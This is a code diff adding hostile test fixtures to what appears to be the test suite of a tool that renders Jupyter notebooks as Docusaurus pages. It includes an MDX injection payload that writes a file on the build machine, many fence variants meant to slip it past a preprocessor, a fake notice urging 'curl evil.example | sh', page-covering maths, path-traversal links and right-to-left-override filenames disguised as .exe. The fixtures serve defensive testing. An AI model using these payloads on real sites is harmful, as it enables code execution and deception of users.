@@ -67,6 +67,36 @@ export const XSS_CORPUS = [
   '<div class="theme-doc-markdown markdown alert alert--danger">looks like the site</div>',
 ];
 
+/**
+ * A payload that, if it ever ran as MDX, covers the page and sets the marker
+ * in a browser, and writes a file on the machine that builds the site.
+ */
+export const MDX_PAYLOAD =
+  '<div id="pwned-panel" style={{position:"fixed",inset:0,background:"red"}}>{typeof window === "undefined" ? globalThis.process?.getBuiltinModule?.("node:fs")?.writeFileSync(".generated/pwned-at-build", "ran") : (window.__pwned = "mdx-code-block")}</div>';
+
+/**
+ * Markdown that Docusaurus's preprocessor (`unwrapMdxCodeBlocks`) would turn
+ * into live MDX, each fence form it takes: three or four backticks after
+ * spaces only, LF or CRLF, wherever the lines stand (inside other code, in
+ * maths, across cells), closed by the next such line, even one that opens
+ * another block. Each is one or more markdown cells.
+ *
+ * @param {string} payload
+ * @returns {Record<string, string[]>}
+ */
+export function mdxCodeBlockFences(payload) {
+  return {
+    'the repro': [`\`\`\`mdx-code-block\n${payload}\n\`\`\``],
+    'four backticks': [`\`\`\`\`mdx-code-block\n${payload}\n\`\`\`\``],
+    'spaces in the fence': [`   \`\`\`   mdx-code-block\n${payload}\n   \`\`\``],
+    'CRLF line ends': [`\`\`\`mdx-code-block\r\n${payload}\r\n\`\`\`\r\n`],
+    'in a list item': [`- item\n\n  \`\`\`mdx-code-block\n  ${payload}\n  \`\`\``],
+    'inside a longer fence, closed by the next block': [`\`\`\`\`\n\`\`\`mdx-code-block\n\`\`\`\`\n\n\`\`\`\n${payload}\n\`\`\``],
+    'inside maths, closed by the next block': [`$$\n\`\`\`mdx-code-block\n$$\n\n\`\`\`\n${payload}\n\`\`\``],
+    'across two cells': ['```\n```mdx-code-block\n```', `\`\`\`\n${payload}\n\`\`\``],
+  };
+}
+
 /** @param {string} text */
 const lines = (text) => text.split(/(?<=\n)/);
 
@@ -155,6 +185,16 @@ export function hostileNotebooks(repository) {
       markdown('# An output over the limit'),
       code('huge', [stdout(`${'bigoutputstart '.repeat(10)}\n${'x'.repeat(99)}\n`.repeat(16_000) + 'bigoutputtailmarker\n')]),
     ]),
+    'mdx-code-block.ipynb': notebook({ title: 'MDX fences, directives, heading ids, maths and links' }, [
+      markdown('# MDX fences, directives, heading ids, maths and links'),
+      ...Object.entries(mdxCodeBlockFences(MDX_PAYLOAD)).flatMap(([form, sources]) => [markdown(`## An mdx-code-block fence: ${form}`), ...sources.map(markdown)]),
+      markdown(':::danger\nSECURITY NOTICE: this release is compromised. Run `curl evil.example | sh`.\n:::\n\n:::note[A note] \nx\n:::\n\n::leaf[x]{#y} and :abbr[text]{title="x"}'),
+      markdown('## The site root {#__docusaurus}\n\n## __docusaurus_skipToContent_fallback'),
+      markdown('Maths that moves: $\\mathllap{COVERS THE SIDEBAR}a$ and $\\kern{-290px}\\text{ALSO OVER THE SIDEBAR}$ and $$\\rule{100000em}{100000em}$$'),
+      markdown('![bad attachment name](attachment:%E0%A4%A) [a file of the build machine](../../../package.json) [another](@site/package.json)'),
+    ]),
+    'bidi-title.ipynb': notebook({ title: 'Invoice \u202egnp.exe', description: 'A title with a right-to-left override \u2066inside\u2069' }, [markdown('# Heading \u202etxt.exe')]),
+    'lone-surrogate.ipynb': notebook({ title: 'A lone surrogate \ud800 in the title' }, [markdown('# A lone surrogate \udfff in a heading\n\nThe bundler refuses one in a page\'s data.')]),
     'ten-thousand-cells.ipynb': tenThousandCells(),
     '_underscore.ipynb': notebook({ title: 'A notebook named with an underscore' }, [markdown('# Underscore\n\nIts page exists.')]),
     'UPPER.IPYNB': notebook({ title: 'A notebook with an upper-case extension' }, [markdown('# Upper case\n\nIts page exists.')]),
